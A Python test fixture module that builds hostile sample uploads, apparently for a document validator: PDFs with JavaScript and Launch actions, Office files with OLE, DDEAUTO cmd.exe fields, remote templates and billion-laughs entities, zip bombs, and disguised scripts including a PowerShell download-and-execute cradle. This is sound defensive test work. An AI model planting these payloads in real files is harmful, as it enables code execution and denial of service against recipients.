"""Hostile papers and case lists, made in the tests: PDFs with actions, scripts, attachments
and XFA (built with pikepdf on fpdf2 output), Word and Excel files with macros, embedded
objects, ActiveX, external links and DDE fields (built with zipfile on real files), markup,
scripts and shortcuts disguised as text, and zip bombs. Nothing here is ever run."""

from __future__ import annotations

import io
import zipfile

import pikepdf

from tests.helpers import paper_files as files

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _pdf_with(change) -> bytes:
    pdf = pikepdf.open(io.BytesIO(files.pdf(["Educational psychology advice."])))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def pdf_javascript_open_action() -> bytes:
    def change(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        )

    return _pdf_with(change)


def pdf_named_javascript() -> bytes:
    """A document-level script in the names tree, run when the file opens."""

    def change(pdf):
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.x=1"))
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action]))
        )

    return _pdf_with(change)


def pdf_launch_action() -> bytes:
    def change(pdf):
        page = pdf.pages[0].obj
        page.AA = pikepdf.Dictionary(
            O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
        )

    return _pdf_with(change)


def pdf_submit_form() -> bytes:
    def change(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.SubmitForm,
            F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("http://example.invalid/")),
        )

    return _pdf_with(change)


def pdf_attached_exe() -> bytes:
    def change(pdf):
        pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(500))

    return _pdf_with(change)


def pdf_xfa_form() -> bytes:
    def change(pdf):
        pdf.Root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array(), XFA=pikepdf.Stream(pdf, b"<xdp:xdp/>")
        )

    return _pdf_with(change)


def pdf_with_link() -> bytes:
    """An ordinary link annotation (opens a web page when clicked): accepted."""

    def change(pdf):
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([10, 10, 100, 30]),
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://gov.uk/")),
        )
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([link]))

    return _pdf_with(change)


# -- Office ----------------------------------------------------------------------------------


def _add_rel(rels: bytes, rel_id: str, rel_type: str, target: str, external: bool) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{rel_id}" Type="{REL}/{rel_type}" Target="{target}"{mode}/>'
    return rels.replace(b"</Relationships>", entry.encode() + b"</Relationships>")


def _with_rel(data: bytes, rels_part: str, rel_type: str, target: str, *, external=False, add=None):
    def replace(name, body):
        if name == rels_part:
            return _add_rel(body, "rIdHostile", rel_type, target, external)
        return body

    return files.rezip(data, add=add, replace=replace)


def word_with_ole_object() -> bytes:
    def types(name, body):
        if name == "[Content_Types].xml":
            return body.replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
                b'officedocument.oleObject"/></Types>',
            )
        if name == "word/_rels/document.xml.rels":
            return _add_rel(body, "rIdOle", "oleObject", "embeddings/oleObject1.bin", False)
        return body

    return files.rezip(
        files.word(),
        add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"MZ" + bytes(200)},
        replace=types,
    )


def word_with_embedded_package() -> bytes:
    return _with_rel(
        files.word(),
        "word/_rels/document.xml.rels",
        "package",
        "embeddings/setup.exe",
        add={"word/embeddings/setup.exe": b"MZ" + bytes(200)},
    )


def word_with_activex() -> bytes:
    return _with_rel(
        files.word(),
        "word/_rels/document.xml.rels",
        "control",
        "activeX/activeX1.xml",
        add={"word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="urn:x"/>'},
    )


def word_with_remote_template() -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
        'Target="http://example.invalid/template.dotm" TargetMode="External"/></Relationships>'
    )
    return files.rezip(files.word(), add={"word/_rels/settings.xml.rels": rels.encode()})


def word_with_linked_image() -> bytes:
    return _with_rel(
        files.word(),
        "word/_rels/document.xml.rels",
        "image",
        "file://server/share/track.png",
        external=True,
    )


def word_with_hyperlink() -> bytes:
    """A clickable link to a web page: an external relationship that is accepted."""
    return _with_rel(
        files.word(),
        "word/_rels/document.xml.rels",
        "hyperlink",
        "https://www.gov.uk/children-with-special-educational-needs",
        external=True,
    )


def word_with_dde_field() -> bytes:
    field = (
        b'<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k '
        b'calc.exe&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    )

    def replace(name, body):
        if name == "word/document.xml":
            return body.replace(b"<w:sectPr", field + b"<w:sectPr", 1)
        return body

    return files.rezip(files.word(), replace=replace)


def word_with_entity_expansion() -> bytes:
    """'Billion laughs' in the main part: refused without expanding anything."""
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    )

    def replace(name, body):
        if name == "word/document.xml":
            return bomb + body.split(b"?>", 1)[1].replace(b"<w:t>", b"<w:t>&b;", 1)
        return body

    return files.rezip(files.word(), replace=replace)


def excel_with_macros() -> bytes:
    def replace(name, body):
        if name == "[Content_Types].xml":
            return body.replace(
                b"</Types>",
                b'<Override PartName="/xl/vbaProject.bin" '
                b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        return body

    return files.rezip(
        files.excel([["a", 1]]), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, replace=replace
    )


def excel_with_external_link() -> bytes:
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<externalBook/></externalLink>"
    )
    return _with_rel(
        files.excel([["a", 1]]),
        "xl/_rels/workbook.xml.rels",
        "externalLink",
        "externalLinks/externalLink1.xml",
        add={"xl/externalLinks/externalLink1.xml": link},
    )


# -- zip bombs -------------------------------------------------------------------------------


def _filler(megabytes: int, template: bytes) -> bytes:
    """``megabytes`` of ``template`` filled with random numbers: it packs about fifty-fold,
    like real text, so only its unpacked size gives it away."""
    import random

    rng = random.Random(7)
    block = b"".join(template % rng.randrange(10**8) for _ in range(2**20 // len(template)))
    return block * megabytes  # repeats a megabyte apart: too far for the packer to notice


def word_unpacking_to(megabytes: int = 240) -> bytes:
    """A Word file whose main part unpacks to ``megabytes`` (about 50 times its packed size,
    under the compression-ratio limit)."""
    filler = _filler(
        megabytes,
        b"<w:p><w:r><w:t>The provision in section F is specified and quantified for the child "
        b"in every area of need, reviewed by the school and the family, ref %08d.</w:t></w:r>"
        b"</w:p>",
    )

    def replace(name, body):
        if name == "word/document.xml":
            head, tail = body.split(b"<w:body>", 1)
            return head + b"<w:body>" + filler + tail
        return body

    return files.rezip(files.word(), replace=replace)


def excel_with_shared_strings(megabytes: int = 240) -> bytes:
    """A workbook whose shared-strings table is ``megabytes`` of distinct short strings."""
    base = files.excel([["Provision", "Hours"], ["TA support", 20]])
    filler = _filler(
        megabytes,
        b"<si><t>Teaching assistant support in class for literacy and numeracy, weekly "
        b"hours agreed by the school, line %08d</t></si>",
    )
    count = filler.count(b"<si>")
    body = io.BytesIO()
    body.write(
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main" count="%d" uniqueCount="%d">' % (count, count)
    )
    body.write(filler)
    body.write(b"</sst>")
    strings = body.getvalue()

    def replace(name, body_):
        if name == "[Content_Types].xml" and b"sharedStrings" not in body_:
            return body_.replace(
                b"</Types>",
                b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
            )
        return body_

    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for info in source.infolist():
            if info.filename != "xl/sharedStrings.xml":
                target.writestr(info.filename, replace(info.filename, source.read(info)))
        target.writestr("xl/sharedStrings.xml", strings)
    return out.getvalue()


# -- text in disguise ------------------------------------------------------------------------

HTML_AS_DOCX = b"<!DOCTYPE html><html><body><p>Report</p><script>fetch('x')</script></body></html>"
HTA = b'<html><head><hta:application id="x"/></head><body>Report</body></html>'
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(2)</script></svg>"
)
VBS = b'Dim shell\r\nSet shell = CreateObject("WScript.Shell")\r\nshell.Run "calc.exe"\r\n'
POWERSHELL = (
    b"$client = New-Object System.Net.WebClient\n"
    b"$payload = $client.DownloadString('http://example.invalid/a')\n"
    b"Invoke-Expression $payload\n"
)
JSCRIPT = b'var sh = new ActiveXObject("WScript.Shell");\nsh.Run("calc");\n'
BATCH_LATE = b"REM report\r\nset x=1\r\ncmd /c start calc\r\n"
URL_SHORTCUT = b"[InternetShortcut]\r\nURL=http://example.invalid/\r\n"
HIDDEN_HTML = (
    b"Notes from the review meeting.\n\nThe child is settled.\n"
    b"<iframe src='http://example.invalid/'></iframe>\n"
)
PLAIN_TEXT = (
    b"Parents' views (March 2026)\n"
    b"Next steps\n"
    b"Set targets for reading; review in the summer term.\n"
    b"If the child needs more support then we will ask the school (see page 2).\n"
    b"Our email: parent@example.org. Age < 7 and score > 90; 3 < 5.\n"
)
